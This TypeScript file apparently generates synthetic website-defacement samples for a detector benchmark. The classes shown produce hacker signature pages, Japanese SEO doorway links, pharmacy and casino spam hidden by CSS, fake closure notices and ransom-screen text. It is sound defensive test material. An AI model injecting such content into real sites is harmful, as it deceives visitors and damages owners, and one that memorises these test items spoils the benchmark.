/**
 * Fresh36 defacement classes: written during round 25, by someone who does
 * not read the engines, from the point of view of an incident responder at a
 * managed hosting company for small businesses, clinics, schools, churches
 * and non-profits (WordPress, Joomla and Drupal sites and site-builder
 * exports), working from the 2024–2026 threat-intelligence write-ups the desk
 * reads. They are spread evenly over three questions: what a visitor sees
 * (defacer crews' index pages, headings and paragraphs overwritten, pictures
 * swapped, marquees with music, the Japanese keyword hack's doorway links,
 * pharma and weight-loss-drug spam, hidden casino and loan link blocks,
 * false closure notices, "site encrypted" ransom screens), where the page
 * sends visitors and their data (SocGholish-style fake browser updates,
 * ClickFix "paste this into Run / Terminal" lures, obfuscated loaders
 * injected through vulnerable plugins, search-referrer redirects, hidden
 * traffic-distribution frames, one contact or booking form posting elsewhere,
 * donate and appointment links rerouted, document downloads swapped for
 * archives, fake card forms, shared-document login overlays, wallet-connect
 * drainers), and identifiers visitors copy or trust (phone numbers, e-mail
 * addresses, bank accounts, wallets, payment handles, social profiles,
 * WhatsApp numbers and postal addresses, swapped quietly or with a cover
 * story). Each varies wording, language (the page's own where the attacker
 * would write in it), placement, sizes, hosts and numbers with the rng. The
 * writer had no internet access: the patterns are recalled from memory of
 * public write-ups (Sucuri's yearly hacked-website reports and its posts on
 * the Japanese keyword hack, SEO spam, Balada Injector and SocGholish /
 * FakeUpdates; Sansec and Malwarebytes on Magecart skimmers and fake payment
 * forms; Proofpoint, Unit 42 and others on ClickFix and ClearFake fake
 * CAPTCHA and browser-update lures; chain-analysis and wallet vendors on
 * drainer kits; Zone-H style defacement archives; FBI IC3, Action Fraud and
 * charity-regulator warnings on payment diversion, impostor profiles and
 * lead theft from small-business contact pages) and may differ in detail.
 * Scored in the `fresh36` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, cap, forms, head, lineAfter, occurrences, say, setAttr, shown, siteOr, top } from "./classes.js"
import { type Page, makeBank, makeWallet } from "./corpus.js"
import { type Change, type Splice, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, makePhone, someDate, swapPhone } from "./locales.js"
import { type El, type Range, attrSpans, insideRaw } from "./locate.js"
import { type Rng, alnum, base58, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { attackerDomain, boast, brandLookalike, contactLine, greetz, libLookalike, nick, notifyLine, political, randomDomain, scriptPath, signature, team } from "./words.js"

const deface = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh36", make })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
/** Whether `r` touches raw text or a comment, or holds one whole. */
const rawInside = (page: Page, r: Range): boolean => page.spots.raw.some((x) => (x.start < r.end && x.end > r.start) || (x.start >= r.start && x.end <= r.end))
/** Occurrences of `value` outside raw text (a value at the very start of a script counts as inside here). */
const occ = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => !rawInside(page, r))
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOcc = (page: Page, value: string): Array<Range> => occ(page, value).filter((r) => inText(page, r))
/** Splices replacing every occurrence of each `from` with its `to` (first pair wins on overlap), outside raw text. */
const everywhere = (page: Page, pairs: ReadonlyArray<readonly [string, string]>): Array<Splice> => {
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [from, to] of pairs) {
    if (from === "" || from === to) continue
    for (const r of occ(page, from)) {
      if (taken.some((t) => r.start < t.end && r.end > t.start)) continue
      taken.push(r)
      out.push(replace(r, to))
    }
  }
  return out
}
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<p>${html}</p>`)
}
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const blockSpot = (rng: Rng, page: Page) => pick(rng, [top(page), top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")])
const anySpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), bottom(page)])
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const who = (rng: Rng) => (chance(rng, 0.55) ? nick(rng) : team(rng))
const day = 86_400_000
const soon = (page: Page, rng: Rng, lo = 1, hi = 20) => page.site.locale.date(new Date(someDate(rng).getTime() + between(rng, lo, hi) * day))
const contactNeedles = (page: Page) => [page.ids.bank?.value ?? "", page.ids.email, page.ids.phone.intl, page.ids.phone.national].filter((s) => s !== "")
const titleRange = (page: Page): Range | null => {
  const el = page.spots.elements.find((e) => e.name === "title" && !e.inBody && e.closeTag !== null && usable(page, e))
  if (el === undefined || el.closeTag === null) return null
  const r = { start: el.openEnd, end: el.closeTag.start }
  return rawInside(page, r) ? null : r
}
const anchors = (page: Page, f: (href: string, e: El) => boolean): Array<El> =>
  page.spots.elements.filter((e) => e.name === "a" && e.shown && usable(page, e) && f((e.attribs.href ?? "").trim(), e))
/** The visible text inside `e`, whitespace collapsed. */
const textIn = (page: Page, e: El): string => {
  const c = e.closeTag
  if (c === null) return ""
  return page.spots.texts.filter((t) => t.start >= e.openEnd && t.end <= c.start).map((t) => t.text).join(" ").replace(/\s+/g, " ").trim()
}
/** The content of `e` as a range, when it has an explicit close tag and holds no raw text. */
const contentOf = (page: Page, e: El): Range | null => {
  if (e.closeTag === null) return null
  const r = { start: e.openEnd, end: e.closeTag.start }
  return r.end > r.start && !rawInside(page, r) ? r : null
}
const scamTld = (rng: Rng) => pick(rng, ["com", "net", "org", "info", "top", "xyz", "online", "site", "live", "shop", "click", "icu", "cc", "help"])
const imgHost = (rng: Rng) => pick(rng, ["i.imgur.com", "i.ibb.co", "i.postimg.cc", "files.catbox.moe", randomDomain(rng)])
const picture = (rng: Rng) => `https://${imgHost(rng)}/${alnum(rng, between(rng, 6, 9))}.${pick(rng, ["png", "jpg", "gif", "webp"])}`
const fixedBox = (rng: Rng) => `position:fixed;inset:0;z-index:${pick(rng, ["9999", "99999", "999999", "2147483647"])};background:rgba(0,0,0,.${between(rng, 5, 9)});display:flex;align-items:center;justify-content:center`

/** First and last names of private persons, per country, for mule accounts and payees. */
const names: Readonly<Record<string, readonly [ReadonlyArray<string>, ReadonlyArray<string>]>> = {
  fr: [["Kevin", "Manon", "Yanis", "Chloé", "Nicolas", "Inès", "Sébastien", "Léa"], ["Petit", "Durand", "Leroy", "Fournier", "Mercier", "Haddad", "Lambert", "Faure"]],
  de: [["Florian", "Julia", "Kevin", "Lena", "Emre", "Nadine", "Patrick", "Melanie"], ["Fischer", "Meyer", "Schulz", "Koch", "Richter", "Demir", "Wolf", "Neumann"]],
  es: [["Adrián", "Laura", "Raúl", "Sara", "Hugo", "Marta", "Diego", "Elena"], ["Ruiz", "Díaz", "Moreno", "Muñoz", "Jiménez", "Torres", "Vázquez", "Ramos"]],
  nl: [["Thijs", "Anouk", "Jesse", "Iris", "Mohamed", "Fleur", "Niels", "Sophie"], ["van Dijk", "Mulder", "de Boer", "Peters", "Hendriks", "Dekker", "Bos", "Yilmaz"]],
  br: [["Gabriel", "Beatriz", "Thiago", "Larissa", "Bruno", "Letícia", "Felipe", "Aline"], ["Lima", "Gomes", "Ribeiro", "Carvalho", "Ferreira", "Barbosa", "Araújo", "Melo"]],
  it: [["Simone", "Valentina", "Davide", "Martina", "Alessio", "Elisa", "Federico", "Giorgia"], ["Gallo", "Conti", "De Luca", "Mancini", "Costa", "Giordano", "Rizzo", "Lombardi"]],
  in: [["Rahul", "Priya", "Amit", "Sneha", "Vikram", "Pooja", "Arjun", "Neha"], ["Sharma", "Verma", "Gupta", "Singh", "Reddy", "Nair", "Iyer", "Kumar"]],
  default: [["Jason", "Ashley", "Kyle", "Megan", "Brandon", "Chloe", "Tyler", "Jessica"], ["Miller", "Davis", "Clarke", "Hughes", "Roberts", "Turner", "Bailey", "Cooper"]]
}
const personName = (rng: Rng, page: Page): string => {
  const [f, l] = names[page.site.locale.country] ?? names.default!
  return `${pick(rng, f)} ${pick(rng, l)}`
}
const ascii = (s: string) => s.normalize("NFD").replace(/[\u0300-\u036f]/g, "").replace(/[^A-Za-z0-9]/g, "").toLowerCase()

// ———————————————————————————— what a visitor sees ————————————————————————————

// The classic defacement the desk restores from backup every week: the index file replaced by the crew's page (dark background, signature, a boast or a political line, greetz, contacts, the archive the defacement was notified to, sometimes music).
const crewIndex: ChangeClass = {
  name: "fresh36-defacer-crew-index-page-replacing-the-whole-site",
  kind: "defacement",
  group: "fresh36",
  wholePage: true,
  make: (page, rng) => {
    const w = who(rng)
    const sig = signature(rng, w).text
    const bg = pick(rng, ["#000", "#000", "#050505", "#111", "#1b0000", "#001a00", "#00001a"])
    const fg = pick(rng, ["#0f0", "#fff", "#f00", "#ff0", "#0ff", "#ddd"])
    const font = pick(rng, ["monospace", "'Courier New',monospace", "Tahoma,sans-serif", "'Comic Sans MS',cursive", "Impact,sans-serif"])
    const music = pick(rng, [
      () => `<audio autoplay loop src="https://${pick(rng, [randomDomain(rng), "files.catbox.moe", "a.uguu.se"])}/${alnum(rng, 6)}.mp3"></audio>`,
      () => `<iframe width="1" height="1" src="https://www.youtube.com/embed/${alnum(rng, 11)}?autoplay=1&amp;loop=1" frameborder="0"></iframe>`,
      () => ""
    ])()
    const lines = [
      chance(rng, 0.75) ? `<img src="${picture(rng)}" width="${between(rng, 180, 520)}" alt="">` : "",
      `<h1 style="font-size:${between(rng, 28, 64)}px">${esc(sig)}</h1>`,
      `<p>${esc(boast(rng).text)}</p>`,
      chance(rng, 0.5) ? `<p>${esc(political(rng).text)}</p>` : "",
      chance(rng, 0.8) ? `<p><small>${esc(greetz(rng))}</small></p>` : "",
      `<p>${contactLine(rng, w)}</p>`,
      chance(rng, 0.5) ? `<p><i>${esc(notifyLine(rng, w))}</i></p>` : "",
      music
    ].filter((l) => l !== "")
    const title = pick(rng, [sig, `Hacked By ${w}`, `${page.site.host} - ${pick(rng, ["Hacked", "Owned", "Defaced", "Pwned"])}`, `./${w.replace(/\s+/g, "")}`, `:: ${w} ::`])
    return { html: `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>${esc(title)}</title></head><body style="background:${bg};color:${fg};font-family:${font};text-align:center;padding-top:${between(rng, 20, 120)}px">\n<center>\n${lines.join("\n")}\n</center>\n</body></html>\n` }
  }
}

const jpBrands = ["ロレックス", "オメガ", "シャネル", "ルイヴィトン", "エルメス", "グッチ", "プラダ", "ディオール", "カルティエ", "セイコー", "ナイキ", "ニューバランス", "バーバリー", "ティファニー"]
const jpItems = ["時計", "財布", "バッグ", "スニーカー", "ネックレス", "指輪", "ジャケット", "ベルト", "サングラス", "長財布"]
const jpPitch = ["激安", "通販", "スーパーコピー", "N級品", "販売", "専門店", "口コミ", "最高品質", "送料無料", "代引き", "新作", "即納", "人気", "格安"]
const jpIntro = [
  "当店は世界一流ブランドコピー専門店です。全国送料無料、品質保証。",
  "ブランドコピー品の激安通販サイト。新作入荷、大人気商品を多数取り揃えております。",
  "最高級スーパーコピー時計、バッグ、財布を激安価格でご提供します。",
  "日本国内発送、代引き対応。安心してお買い物をお楽しみください。"
]
const jpText = (rng: Rng) => `${pick(rng, ["", "【", "★"])}${pick(rng, jpBrands)}${pick(rng, ["", " "])}${pick(rng, jpItems)} ${sample(rng, jpPitch, between(rng, 1, 3)).join(" ")}${pick(rng, ["", "】", " - 人気", " 2025"])}`

// The Japanese keyword hack as the desk finds it on WordPress sites: thousands of doorway pages generated under the site's own address, cross-linked from its real pages so that search engines crawl them; on the real page, a block of Japanese counterfeit-goods links into those spam paths, sometimes with the tab title prefixed.
const japaneseDoorway = deface("fresh36-japanese-keyword-doorway-links-into-spam-paths-on-own-host", (page, rng) => {
  const origin = new URL(page.site.url).origin
  const abs = chance(rng, 0.5)
  const path = () => pick(rng, [
    () => `/?${alnum(rng, between(rng, 3, 6))}=${digits(rng, between(rng, 4, 8))}`,
    () => `/${pick(rng, ["jp", "shop", "item", "detail", "products", "ja", "brand"])}/${alnum(rng, between(rng, 5, 10))}.html`,
    () => `/${digits(rng, between(rng, 5, 9))}.html`,
    () => `/?p=${digits(rng, 5)}&${alnum(rng, 3)}=${alnum(rng, 6)}`,
    () => `/${alnum(rng, 4)}/${digits(rng, 6)}.html`
  ])()
  const links = Array.from({ length: between(rng, 6, 26) }, () => `<a href="${esc((abs ? origin : "") + path())}">${esc(jpText(rng))}</a>`)
  const list = pick(rng, [
    () => `<ul>${links.map((l) => `<li>${l}</li>`).join("")}</ul>`,
    () => `<p>${links.join(pick(rng, [" ", " | ", "、", "<br>"]))}</p>`,
    () => `<table><tbody>${links.map((l) => `<tr><td>${l}</td></tr>`).join("")}</tbody></table>`
  ])()
  const intro = chance(rng, 0.6) ? `<p>${esc(pick(rng, jpIntro))}</p>` : ""
  const heading = chance(rng, 0.5) ? `<h2>${esc(jpText(rng))}</h2>` : ""
  const out: Array<Splice> = [insert(anySpot(rng, page), `<div class="${pick(rng, ["post", "entry-content", "jp-links", alnum(rng, 6)])}" lang="ja">${heading}${intro}${list}</div>`)]
  const tr = titleRange(page)
  if (tr !== null && chance(rng, 0.5)) out.push(insert(tr.start, esc(`${jpText(rng)} - `)))
  return { splices: out }
})

const drugs = ["Viagra", "Cialis", "Levitra", "Tramadol", "Xanax", "Modafinil", "Ozempic", "Semaglutide", "Wegovy", "Mounjaro", "Kamagra", "Sildenafil", "Tadalafil", "Valium", "Adderall", "Phentermine", "Finasteride", "Clomid", "Tirzepatide", "Oxycodone"]
const pharmaPhrase = (rng: Rng) => {
  const d = pick(rng, drugs)
  return pick(rng, [
    `buy ${d} online`, `${d} without prescription`, `cheap ${d} ${pick(rng, [5, 10, 20, 50, 100])}mg`, `order ${d} overnight delivery`, `generic ${d} no rx`,
    `${d} for sale`, `where to buy ${d} online safely`, `${d} best price`, `discount ${d} pills`, `${d} online pharmacy`, `${d} price per pill`
  ])
}
const pharmaHost = (rng: Rng) => pick(rng, [
  () => `${pick(rng, ["best", "safe", "canada", "euro", "global", "my", "cheap", "trusted"])}${pick(rng, ["pharmacy", "meds", "pills", "rx", "drugstore"])}${pick(rng, ["", "24", "online", "-shop"])}.${scamTld(rng)}`,
  () => `buy${pick(rng, drugs).toLowerCase()}${pick(rng, ["online", "now", "rx", "usa"])}.${scamTld(rng)}`,
  () => `rx-${pick(rng, ["store", "direct", "care", "express"])}${between(rng, 1, 99)}.${scamTld(rng)}`
])()

// Pharma and weight-loss-drug spam injected into posts and pages (Sucuri's cleanup statistics put SEO spam first for years; since 2023 Ozempic, Wegovy and Mounjaro sit beside the old Viagra and Tramadol keywords): one to three spam paragraphs with keyword links to online pharmacies, in the content.
const pharmaParagraphs = deface("fresh36-pharma-and-weight-loss-drug-spam-paragraphs-with-pill-shop-links", (page, rng) => {
  const host = pharmaHost(rng)
  const a = (t: string) => `<a href="https://${host}/${pick(rng, ["", "product/", "item/", "?ref="])}${alnum(rng, 6)}">${esc(t)}</a>`
  const para = () => pick(rng, [
    () => `Looking for ${a(pharmaPhrase(rng))}? Our licensed pharmacy ships discreetly worldwide, no prescription needed. ${a(pharmaPhrase(rng))}.`,
    () => `${cap(pharmaPhrase(rng))} – ${a(pharmaPhrase(rng))}, ${a(pharmaPhrase(rng))}, ${a(pharmaPhrase(rng))}.`,
    () => `Many patients ask where to ${a(pharmaPhrase(rng))}. Compare prices, read reviews and get ${between(rng, 10, 70)}% off your first order.`,
    () => `${a(pharmaPhrase(rng))} | ${a(pharmaPhrase(rng))} | ${a(pharmaPhrase(rng))} | ${a(pharmaPhrase(rng))}`
  ])()
  const html = Array.from({ length: between(rng, 1, 3) }, () => `<p>${para()}</p>`).join("")
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "top"), slotAt(page.spots, "bottom")]), chance(rng, 0.5) ? `<div class="${pick(rng, ["entry", "post-content", "textwidget"])}">${html}</div>` : html))
})

const spamAnchors = [
  "online casino", "best online casino", "casino bonus", "slot online", "no deposit bonus", "crypto casino", "live casino", "free spins", "sports betting",
  "payday loans", "fast loans no credit check", "instant payday loans", "title loans", "essay writing service", "buy essay", "write my paper",
  "casino zonder cruks", "casino sans vérification", "online casino ohne lizenz", "casino online sin licencia", "slot gacor", "situs toto", "replica watches"
]
const spamHost = (rng: Rng) => pick(rng, [
  () => `${pick(rng, ["casino", "slots", "bet", "spin", "jackpot", "bonus", "vegas", "lucky"])}${pick(rng, ["", "-"])}${pick(rng, ["online", "club", "777", "hub", "king", "top", "guide", "review"])}.${pick(rng, ["com", "net", "io", "bet", "casino", "org", "xyz", "co"])}`,
  () => `${pick(rng, ["quick", "easy", "fast", "cash", "best"])}${pick(rng, ["loans", "payday", "lender", "credit"])}${pick(rng, ["", "usa", "now", "24"])}.${pick(rng, ["com", "net", "org", "co"])}`,
  () => `${pick(rng, ["essay", "paper", "write", "grade"])}${pick(rng, ["pro", "hub", "shark", "lab", "market"])}.${pick(rng, ["com", "net", "org", "io"])}`
])()

// Hidden link blocks (the oldest paid-link spam, still the commonest find in the desk's footer and widget audits: a block of casino, loan and essay links pushed off-screen, shrunk to nothing or hidden by a style, for search engines only), in the footer or the top of the body.
const hiddenLinks = deface("fresh36-casino-loan-and-essay-links-in-a-block-hidden-by-style", (page, rng) => {
  const style = pick(rng, [
    `position:absolute;left:-${between(rng, 3000, 9999)}px;top:-${between(rng, 1000, 9999)}px`, "display:none", "height:0;width:0;overflow:hidden",
    "font-size:0;line-height:0", "opacity:0;position:absolute;z-index:-1", "text-indent:-9999px;overflow:hidden;height:1px", "visibility:hidden;height:0"
  ])
  const links = Array.from({ length: between(rng, 5, 30) }, () => `<a href="https://${spamHost(rng)}/${pick(rng, ["", "", "go/", "review/", "?ref="])}${chance(rng, 0.4) ? alnum(rng, 5) : ""}">${esc(pick(rng, spamAnchors))}</a>`)
  const inner = chance(rng, 0.5) ? links.join(pick(rng, [" ", ", ", " | "])) : `<ul>${links.map((l) => `<li>${l}</li>`).join("")}</ul>`
  const html = chance(rng, 0.3) && !inner.startsWith("<ul>") ? `<p style="${style}">${inner}</p>` : `<div style="${style}">${inner}</div>`
  return splices(insert(pick(rng, [bottom(page), bottom(page), top(page), slotAt(page.spots, "bottom")]), html))
})

// Partial defacements that keep the site running but put the crew's name in the largest type on the page (an editor account or a vulnerable page builder used to change one heading): the first main heading's content replaced by a signature, sometimes the tab title too.
const headingSigned = deface("fresh36-first-main-heading-replaced-by-hacked-by-signature", (page, rng) => {
  const w = who(rng)
  const sig = signature(rng, w).text
  const inner = chance(rng, 0.5) ? esc(sig) : `<span style="color:${pick(rng, ["red", "#f00", "#c00", "lime"])}">${esc(sig)}</span>${chance(rng, 0.4) ? ` <small>${esc(boast(rng).text)}</small>` : ""}`
  const hs = ["h1", "h2"].flatMap((n) => shown(page, n, (e) => usable(page, e) && contentOf(page, e) !== null && textIn(page, e).length > 0))
  const out: Array<Splice> = []
  const h = hs[0]
  if (h !== undefined) out.push(replace(contentOf(page, h)!, inner))
  else out.push(insert(top(page), `<h1>${inner}</h1>`))
  const tr = titleRange(page)
  if (tr !== null && chance(rng, 0.4)) out.push(replace(tr, esc(sig)))
  return { splices: out }
})

// Picture swaps on hacked school, church and club sites (the hero photo or the first pictures of a post replaced by a crew emblem, a flag or an obscene image, the files overwritten or the tags edited): one to four of the first content pictures loading the attacker's pictures.
const picturesSwapped = deface("fresh36-first-content-pictures-swapped-for-defacer-images", (page, rng) => {
  const imgs = shown(page, "img", (e) => usable(page, e) && (e.attribs.src ?? "").trim() !== "" && !/^data:/i.test((e.attribs.src ?? "").trim()) && !(parseInt(e.attribs.width ?? "100", 10) < 40))
  if (imgs.length === 0) return splices(insert(blockSpot(rng, page), `<p><img src="${picture(rng)}" alt="${esc(signature(rng, who(rng)).text)}" width="${between(rng, 300, 900)}"></p>`))
  const chosen = sample(rng, imgs.slice(0, 8), between(rng, 1, 4))
  const sig = signature(rng, who(rng)).text
  const out: Array<Splice> = []
  for (const img of chosen) {
    const url = picture(rng)
    out.push(setAttr(page, img, "src", url))
    for (const a of attrSpans(page.html, img)) {
      if (a.value !== null && (a.name === "srcset" || /^data-(src|lazy-src|srcset|original)$/.test(a.name))) out.push(replace(a.value, esc(url)))
    }
    if (chance(rng, 0.5)) out.push(setAttr(page, img, "alt", sig))
  }
  return { splices: out }
})

// The marquee-and-music defacement (an old crew habit that still turns up: a scrolling line with the signature and a slogan across the top, and the crew's anthem playing in a hidden player).
const marqueeAnthem = deface("fresh36-scrolling-marquee-signature-and-autoplay-anthem-at-top", (page, rng) => {
  const w = who(rng)
  const text = [signature(rng, w).text, chance(rng, 0.6) ? political(rng).text : boast(rng).text, chance(rng, 0.4) ? greetz(rng) : ""].filter((s) => s !== "").join(" ~ ")
  const [bg, fg] = pick(rng, [["#000", "#0f0"], ["#000", "#fff"], ["#c00", "#fff"], ["#111", "#ff0"], ["#ff0", "#000"], ["#000", "#f00"]] as const)
  const marquee = `<marquee behavior="${pick(rng, ["scroll", "alternate"])}" scrollamount="${between(rng, 3, 14)}" style="background:${bg};color:${fg};font:bold ${between(rng, 16, 34)}px ${pick(rng, ["monospace", "Arial", "Impact"])};padding:${between(rng, 4, 16)}px">${esc(text)}</marquee>`
  const player = pick(rng, [
    `<audio src="https://${pick(rng, [randomDomain(rng), "files.catbox.moe"])}/${alnum(rng, 6)}.mp3" autoplay loop></audio>`,
    `<iframe src="https://www.youtube.com/embed/${alnum(rng, 11)}?autoplay=1&amp;loop=1&amp;controls=0" width="0" height="0" style="border:0"></iframe>`,
    `<embed src="https://${randomDomain(rng)}/${alnum(rng, 5)}.mp3" autostart="true" loop="true" hidden="true">`
  ])
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), `<div>${marquee}${player}</div>`))
})

const closure: T<ReadonlyArray<string>> = {
  en: ["IMPORTANT: {B} has closed permanently as of {d}. All appointments and bookings are cancelled and will not be refunded. We apologise for nothing.", "Notice: {B} is under investigation and has been ordered to close. Do not come to our premises; all services are suspended until further notice."],
  fr: ["IMPORTANT : {B} ferme définitivement ses portes à compter du {d}. Tous les rendez-vous et réservations sont annulés et ne seront pas remboursés.", "Avis : {B} fait l'objet d'une enquête et doit fermer. Ne vous présentez pas dans nos locaux ; tous les services sont suspendus jusqu'à nouvel ordre."],
  de: ["WICHTIG: {B} schließt zum {d} endgültig. Alle Termine und Buchungen sind storniert und werden nicht erstattet.", "Hinweis: Gegen {B} wird ermittelt, der Betrieb wurde behördlich geschlossen. Bitte kommen Sie nicht vorbei; alle Leistungen sind bis auf Weiteres eingestellt."],
  es: ["IMPORTANTE: {B} cierra definitivamente a partir del {d}. Todas las citas y reservas quedan anuladas y no se reembolsarán.", "Aviso: {B} está siendo investigado y debe cerrar. No acuda a nuestras instalaciones; todos los servicios quedan suspendidos hasta nuevo aviso."],
  nl: ["BELANGRIJK: {B} sluit per {d} definitief. Alle afspraken en boekingen zijn geannuleerd en worden niet terugbetaald.", "Mededeling: {B} wordt onderzocht en moet sluiten. Kom niet langs; alle diensten zijn tot nader order opgeschort."],
  pt: ["IMPORTANTE: {B} encerra definitivamente as atividades em {d}. Todas as consultas e reservas estão canceladas e não serão reembolsadas.", "Aviso: {B} está sob investigação e foi obrigado a fechar. Não compareça; todos os serviços estão suspensos até novo aviso."],
  it: ["IMPORTANTE: {B} chiude definitivamente dal {d}. Tutti gli appuntamenti e le prenotazioni sono annullati e non saranno rimborsati.", "Avviso: {B} è sotto indagine e deve chiudere. Non presentatevi in sede; tutti i servizi sono sospesi fino a nuovo avviso."]
}

// Sabotage by false announcements (a former employee's or an intruder's "we have closed for good" or "under investigation" notice on a clinic's, school's or shop's site, which costs the owner patients and customers before anyone notices): one alarming notice at the top in the site's language.
const falseClosure = deface("fresh36-false-permanent-closure-or-investigation-notice-in-owner-voice", (page, rng) => {
  const text = fill(pick(rng, say(page, closure)), { B: brandName(page), d: soon(page, rng, 0, 5) })
  const style = `background:${pick(rng, ["#c00", "#b00020", "#000", "#fff3cd"])};color:${pick(rng, ["#fff", "#fff", "#ff0", "#000"])};padding:${between(rng, 12, 30)}px;font-size:${between(rng, 16, 26)}px;font-weight:bold;text-align:center`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["notice", "announcement", "alert", "site-notice"])}" style="${style}">${esc(text)}</div>`))
})

// Paragraph overwrites (the desk's "partial defacement" tickets: an attacker with an editor login or a page-builder flaw rewriting the text of several paragraphs with taunts, leaving the layout in place).
const paragraphsTaunted = deface("fresh36-several-paragraphs-overwritten-with-defacer-taunts", (page, rng) => {
  const w = who(rng)
  const ps = shown(page, "p", (e) => usable(page, e) && contentOf(page, e) !== null && textIn(page, e).length >= 40)
  const line = () => pick(rng, [() => boast(rng).text, () => signature(rng, w).text, () => political(rng).text, () => `${signature(rng, w).text}. ${boast(rng).text}`])()
  if (ps.length === 0) return splices(insert(slotAt(page.spots, "top"), `<p><b>${esc(line())}</b></p><p>${esc(line())}</p>`))
  const chosen = chance(rng, 0.5) ? ps.slice(0, between(rng, 2, 6)) : sample(rng, ps.slice(0, 20), between(rng, 2, 6))
  return splices(...chosen.map((p) => replace(contentOf(page, p)!, chance(rng, 0.4) ? `<b>${esc(line())}</b>` : esc(line()))))
})

const weightLoss: T<ReadonlyArray<string>> = {
  en: ["Buy {D} Online Without Prescription", "{D} for Sale – Cheapest Price, Fast Delivery", "Order {D} {n}mg Online | No RX Needed", "Where to Buy {D} Online in 2025"],
  fr: ["Acheter {D} sans ordonnance en ligne", "{D} pas cher – livraison rapide", "Commander {D} {n} mg en ligne"],
  de: ["{D} ohne Rezept online kaufen", "{D} günstig bestellen – schnelle Lieferung", "{D} {n} mg rezeptfrei bestellen"],
  es: ["Comprar {D} sin receta online", "{D} barato – envío rápido", "Pedir {D} {n} mg sin receta"],
  nl: ["{D} kopen zonder recept", "{D} goedkoop online bestellen", "{D} {n} mg bestellen zonder recept"],
  pt: ["Comprar {D} sem receita online", "{D} barato – entrega rápida", "{D} {n} mg sem receita"],
  it: ["Acquistare {D} senza ricetta online", "{D} prezzo basso – consegna rapida", "{D} {n} mg senza ricetta"]
}

// Search-result spam for weight-loss injections (Ozempic, Wegovy, Mounjaro; the 2024–2025 wave of compromised clinic and pharmacy sites whose titles and descriptions were rewritten so that search results show the spam under a trusted medical domain): the tab title, meta description and share title rewritten.
const drugSnippet = deface("fresh36-title-and-description-rewritten-as-weight-loss-injection-spam", (page, rng) => {
  const D = pick(rng, ["Ozempic", "Wegovy", "Mounjaro", "Semaglutide", "Tirzepatide", "Saxenda", "Zepbound"])
  const tpl = siteOr(rng, page, weightLoss)
  const title = fill(pick(rng, tpl), { D, n: pick(rng, ["0.25", "0.5", "1", "2.4", "5", "10"]) })
  const desc = `${fill(pick(rng, tpl), { D, n: pick(rng, ["0.5", "1", "2.5", "7.5"]) })}. ${pick(rng, ["Discreet shipping", "Licensed online pharmacy", "24/7 support", "Money-back guarantee"])} – ${pharmaHost(rng)}`
  const out: Array<Splice> = []
  const tr = titleRange(page)
  out.push(tr !== null ? replace(tr, esc(chance(rng, 0.6) ? title : `${title} - ${brandName(page)}`)) : insert(head(page), `<title>${esc(title)}</title>`))
  const meta = page.spots.elements.find((e) => e.name === "meta" && !e.inBody && usable(page, e) && (e.attribs.name ?? "").toLowerCase() === "description")
  out.push(meta !== undefined ? setAttr(page, meta, "content", desc) : insert(head(page), `<meta name="description" content="${esc(desc)}">`))
  const og = page.spots.elements.find((e) => e.name === "meta" && !e.inBody && usable(page, e) && (e.attribs.property ?? "") === "og:title")
  if (og !== undefined && chance(rng, 0.6)) out.push(setAttr(page, og, "content", title))
  return { splices: out }
})

const encrypted: T<readonly [string, string, string]> = {
  en: ["SITE ENCRYPTED", "All files, posts and the database of this website have been encrypted. To restore them send {A} {C} to the address below and e-mail the transaction ID to {M}.", "Time left before your files are deleted:"],
  fr: ["SITE CHIFFRÉ", "Tous les fichiers, articles et la base de données de ce site ont été chiffrés. Pour les récupérer, envoyez {A} {C} à l'adresse ci-dessous et l'identifiant de transaction à {M}.", "Temps restant avant suppression :"],
  de: ["WEBSITE VERSCHLÜSSELT", "Alle Dateien, Beiträge und die Datenbank dieser Website wurden verschlüsselt. Zur Wiederherstellung senden Sie {A} {C} an die folgende Adresse und die Transaktions-ID an {M}.", "Verbleibende Zeit bis zur Löschung:"],
  es: ["SITIO CIFRADO", "Todos los archivos, entradas y la base de datos de este sitio han sido cifrados. Para recuperarlos envíe {A} {C} a la dirección siguiente y el ID de la transacción a {M}.", "Tiempo restante antes del borrado:"],
  nl: ["SITE VERSLEUTELD", "Alle bestanden, berichten en de database van deze website zijn versleuteld. Stuur {A} {C} naar het adres hieronder en mail de transactie-ID naar {M} om ze terug te krijgen.", "Resterende tijd tot verwijdering:"],
  pt: ["SITE CRIPTOGRAFADO", "Todos os arquivos, posts e o banco de dados deste site foram criptografados. Para recuperá-los envie {A} {C} para o endereço abaixo e o ID da transação para {M}.", "Tempo restante até a exclusão:"],
  it: ["SITO CIFRATO", "Tutti i file, gli articoli e il database di questo sito sono stati cifrati. Per recuperarli invia {A} {C} all'indirizzo qui sotto e l'ID della transazione a {M}.", "Tempo rimasto prima della cancellazione:"]
}

